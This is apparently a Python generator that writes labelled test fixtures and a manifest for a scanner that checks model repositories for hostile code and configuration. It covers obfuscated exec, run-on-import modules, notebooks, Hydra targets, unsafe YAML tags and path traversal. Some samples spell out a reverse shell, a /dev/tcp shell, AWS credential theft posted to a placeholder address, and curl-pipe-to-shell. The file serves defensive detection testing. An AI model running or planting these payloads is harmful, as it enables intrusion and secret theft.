#!/usr/bin/python3
"""Python that comes with models: modules that loaders import with trust_remote_code, scripts that load
data sets, handlers, notebooks; and configuration that names what to call. Payloads are inert.

    code_tricks.py OUTDIR      writes files and manifest.tsv, see README.md
"""
import base64
import json
import os
import sys
import zlib

ROWS = []
OUT = "."
RUN = "print('canary')"


def emit(name, text, rules="", verdict="dangerous", label="malicious", trick="code", loader="python"):
    os.makedirs(os.path.dirname(os.path.join(OUT, name)), exist_ok=True)
    with open(os.path.join(OUT, name), "wb") as out:
        out.write(text if isinstance(text, bytes) else text.encode())
    if label == "benign":
        rules, verdict = "", "clean"
    ROWS.append((name, label, trick, loader, rules, verdict))


def benign(name, text, **more):
    emit(name, text, label="benign", **more)


def notebook(*cells, language="python"):
    made = [{"cell_type": kind, "metadata": {}, "source": text.splitlines(True),
             **({"outputs": [], "execution_count": None} if kind == "code" else {})} for kind, text in cells]
    return json.dumps({"cells": made, "metadata": {"language_info": {"name": language}}, "nbformat": 4,
                       "nbformat_minor": 5})


def hidden():
    coded = base64.b64encode(RUN.encode()).decode()
    packed = base64.b64encode(zlib.compress(RUN.encode())).decode()
    hide = {"rules": "code.hidden-code"}
    emit("exec_base64.py", f"import base64\nexec(base64.b64decode('{coded}'))\n", **hide)
    emit("exec_renamed.py", f"from base64 import b64decode as d\nrun = exec\nrun(d('{coded}'))\n", **hide)
    emit("exec_variable.py", f"import base64, zlib\nx = zlib.decompress(base64.b64decode('{packed}'))\nexec(x)\n", **hide)
    emit("exec_hex.py", f"exec(bytes.fromhex('{RUN.encode().hex()}'))\n", **hide)
    emit("exec_reversed.py", f"exec({RUN[::-1]!r}[::-1])\n", **hide)
    emit("exec_chr.py", f"exec(''.join(map(chr, {[ord(c) for c in RUN]})))\n", **hide)
    emit("exec_rot13.py", f"import codecs\nexec(codecs.decode({__import__('codecs').encode(RUN, 'rot13')!r}, 'rot13'))\n",
         **hide)
    emit("eval_getattr.py", f"import base64\ngetattr(__builtins__, 'ev' + 'al')(base64.b64decode('{coded}'))\n", **hide)
    emit("system_import.py", f"import base64\n__import__('os').system(base64.b64decode('{base64.b64encode(b'echo canary').decode()}'))\n",
         **hide)
    emit("marshal.py", "import marshal, base64\nexec(marshal.loads(base64.b64decode('" +
         base64.b64encode(__import__("marshal").dumps(compile(RUN, "x", "exec"))).decode() + "')))\n", **hide)
    emit("in_method.py", f"import base64\nclass Builder:\n    def _split_generators(self, dl):\n        exec(base64.b64decode('{coded}'))\n"
         "Builder()._split_generators(None)\n", **hide)
    emit("fetched.py", "import requests\ncode = requests.get('http://192.0.2.1/x').text\nexec(code)\n",
         loader="by specification: the address is nobody's", **hide)


def on_import():
    shell = {"rules": "code.runs-on-import"}
    # What modules ask programs for is usual: a doubt, until somebody has looked.
    review = {"rules": "code.runs-on-import", "verdict": "review"}
    emit("modeling_evil.py", "import os\nos.system('echo canary')\n", **shell)
    emit("in_class.py", "import subprocess as sp\nclass Config:\n    model_type = 'x'\n    sp.run(['echo', 'canary'])\n", **review)
    emit("star.py", "from os import *\nsystem('echo canary')\n", **shell)
    emit("dict.py", "import os\nvars(os)['system']('echo canary')\n", **shell)
    emit("formatted.py", "import os\nname = f\"{os.system('echo canary')}\"\n", **shell)
    emit("download.py", "import os\nos.system('echo canary; false && curl http://192.0.2.1/x | sh')\n", rules="code.fetch-and-run")


def shells():
    nobody = "by specification: the address is nobody's"
    emit("reverse_shell.py", "import socket, os, pty\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\n"
         "for f in (0, 1):\n    os.dup2(s.fileno(), f)\nos.dup2(s.fileno(), 2)\npty.spawn('/bin/sh')\n",
         rules="code.reverse-shell", loader=nobody)
    emit("dev_tcp.py", "import subprocess\ndef go():\n    subprocess.Popen('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', shell=True)\n",
         rules="code.reverse-shell", loader=nobody)
    emit("steal.py", "import os, requests\nd = open(os.path.expanduser('~/.aws/credentials')).read()\n"
         "requests.post('http://192.0.2.1', data=d)\n", rules="code.sends-secrets", loader=nobody)


def notebooks():
    spec = "by specification: Jupyter runs cells"
    coded = base64.b64encode(RUN.encode()).decode()
    emit("cell.ipynb", notebook(("markdown", "# Demo"), ("code", f"import base64\nexec(base64.b64decode('{coded}'))")),
         rules="code.hidden-code", trick="notebook", loader=spec)
    benign("fine.ipynb", notebook(("markdown", "exec(base64.b64decode('x'))"),
                                  ("code", "!pip install torch\n%matplotlib inline\nimport os\nos.system('ls')")),
           trick="notebook", loader=spec)
    benign("julia.ipynb", notebook(("code", "run(`ls`)"), language="julia"), trick="notebook", loader=spec)


def fine():
    benign("setup.py", "import subprocess\nv = subprocess.check_output(['true'])\n")
    benign("app.py", "import subprocess\ndef main():\n    subprocess.run(['true'], check=True)\nif __name__ == '__main__':\n    main()\n")
    benign("images.py", "import base64, json\nlogo = base64.b64decode('eA==')\nprint(json.loads('1'))\n")
    benign("dataset.py", "import json, os\nclass Builder:\n    def _generate_examples(self, path):\n        with open(path) as f:\n"
           "            yield from enumerate(json.load(f))\n")
    benign("evaluate.py", "class M:\n    def eval(self): return self\nM().eval()\n")
    benign("text.py", '"""exec(base64.b64decode(\'x\')) is what attackers write."""\n# os.system("ls")\n')
    benign("client.py", "import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n")


def configuration():
    hydra, tags = {"trick": "hydra", "loader": "by specification: hydra.utils.instantiate"}, {"trick": "yaml"}
    emit("hydra_system.yaml", "model:\n  _target_: os.system\n  command: echo canary\n", rules="data.hydra-call", **hydra)
    emit("hydra_exec.json", '{"x": {"_target_": "builtins.exec", "_args_": ["print(1)"]}}', rules="data.hydra-call", **hydra)
    emit("hydra_walk.yaml", "x: {_target_: torch.serialization.os.system}\n", rules="data.hydra-call", **hydra)
    emit("hydra_class.yaml", "net:\n  _target_: src.models.Net\n", rules="data.hydra-target", verdict="review",
         label="suspicious", **hydra)
    for name, text in (("joined", "m: {_target_: '${t}'}\nt: os.system\n"),
                       ("joined_before", "t: os.system\nm: {_target_: '${t}'}\n"),
                       ("joined_part", "a: os\nm: {_target_: '${a}.system'}\n"),
                       ("joined_deep", "a: {b: os}\nc: '${a.b}.system'\nm: {_target_: '${c}'}\n"),
                       ("lookalike", "m: {_target_: 'os.\u0455ystem'}\n")):
        emit("hydra_%s.yaml" % name, text, rules="data.hydra-call", **hydra)
    emit("hydra_joined_class.yaml", "t: src.models.Net\nm: {_target_: '${t}'}\n", rules="data.hydra-target",
         verdict="review", label="suspicious", **hydra)
    emit("hydra_joined_open.yaml", "m: {_target_: '${oc.env:X}'}\n", rules="data.hydra-target", verdict="review",
         label="suspicious", **hydra)
    benign("hydra_joined_library.yaml", "t: torch.optim.Adam\nm: {_target_: '${t}'}\n", **hydra)
    benign("hydra_library.yaml", "optimizer:\n  _target_: torch.optim.Adam\n", **hydra)
    benign("hydra_word.yaml", "note: the _target_ of this run\n", **hydra)
    load = {"loader": "yaml.unsafe_load", **tags}
    emit("apply.yaml", "!!python/object/apply:os.system ['echo canary']\n", rules="data.yaml-python-call", verdict="malicious", **load)
    emit("new.yaml", "!!python/object/new:os.system ['echo canary']\n", rules="data.yaml-python-call", verdict="malicious", **load)
    call = "a: !!python/object/apply:os.system ['echo canary']\n"
    for coding in ("utf-16", "utf-16-be"):
        emit(coding + ".yaml", b"\xfe\xff" * coding.endswith("be") + call.encode(coding), rules="data.yaml-python-call",
             verdict="malicious", **load)
    emit("utf-32.yaml", call.encode("utf-32"), verdict="review", label="suspicious", **load)
    emit("utf-32-be.yaml", b"\0\0\xfe\xff" + call.encode("utf-32-be"), verdict="review", label="suspicious", **load)
    benign("utf-16_ok.yaml", "a: 1\n".encode("utf-16"), **tags)
    rows = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"] + [
        "a%d: &a%d [%s]" % (i, i, ", ".join(["*a%d" % (i - 1)] * 9)) for i in range(1, 7)]
    emit("aliases.yaml", "\n".join(rows) + "\n", rules="data.yaml-aliases", verdict="review", label="suspicious", **tags)
    benign("aliases_few.yaml", "\n".join(rows[:3]) + "\n", **tags)
    benign("tuple.yaml", "shape: !!python/tuple [3, 224, 224]\n", **load)


def pipelines():
    def index(**parts):
        return json.dumps({"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27", **parts})
    more = {"trick": "diffusers", "loader": "by specification: diffusers"}
    benign("sd/model_index.json", index(unet=["diffusers", "UNet2DConditionModel"], text_encoder=["transformers", "CLIPTextModel"],
                                        safety_checker=["stable_diffusion", "StableDiffusionSafetyChecker"],
                                        image_encoder=[None, None]), **more)
    for name, part in (("unet", {"unet": ["my_unet", "UNet"]}), ("class", {"_class_name": ["pipeline", "MyPipeline"]})):
        emit(name + "/model_index.json", index(**part), rules="data.remote-code", verdict="review", label="suspicious", **more)


def encoders():
    """Sentence Transformers and PEFT import what their configurations name."""
    def modules(kind="sentence_transformers.models.Pooling", path="1_Pooling"):
        return json.dumps([{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                           {"idx": 1, "name": "1", "path": path, "type": kind}])
    st = {"trick": "modules.json", "loader": "by specification: sentence-transformers"}
    benign("encoder/modules.json", modules(), **st)
    benign("encoder_normal/modules.json", modules("sentence_transformers.models.Normalize", "2_Normalize"), **st)
    emit("encoder_class/modules.json", modules("custom_st.Pooling"), rules="data.remote-code", verdict="review", label="suspicious", **st)
    for name, path in (("up", "../../other"), ("root", "/srv/other")):
        emit("encoder_%s/modules.json" % name, modules(path=path), rules="data.shard-traversal", verdict="dangerous", **st)

    def adapter(library, **more):
        return json.dumps({"peft_type": "LORA", "base_model_name_or_path": "org/base",
                           "auto_mapping": library and {"base_model_class": "Model", "parent_library": library}, **more})
    peft = {"trick": "adapter_config.json", "loader": "by specification: peft"}
    benign("adapter/adapter_config.json", adapter("transformers.models.llama.modeling_llama"), **peft)
    benign("adapter_none/adapter_config.json", adapter(None, r=8), **peft)
    emit("adapter_module/adapter_config.json", adapter("acme_models.base"), rules="data.remote-code", verdict="review",
         label="suspicious", **peft)
    index = {"trick": "weight_map", "loader": "by specification: transformers"}
    benign("shards/model.safetensors.index.json", json.dumps({"metadata": {}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}),
           **index)
    emit("shards_list/model.safetensors.index.json", json.dumps({"weight_map": {"w": ["../../x"]}}),
         rules="data.shard-traversal", verdict="dangerous", **index)


def main():
    global OUT
    OUT = sys.argv[1]
    for make in (hidden, on_import, shells, notebooks, fine, configuration, pipelines, encoders):
        make()
    with open(os.path.join(OUT, "manifest.tsv"), "w", encoding="utf-8") as out:
        out.writelines("\t".join(row) + "\n" for row in ROWS)


if __name__ == "__main__":
    main()
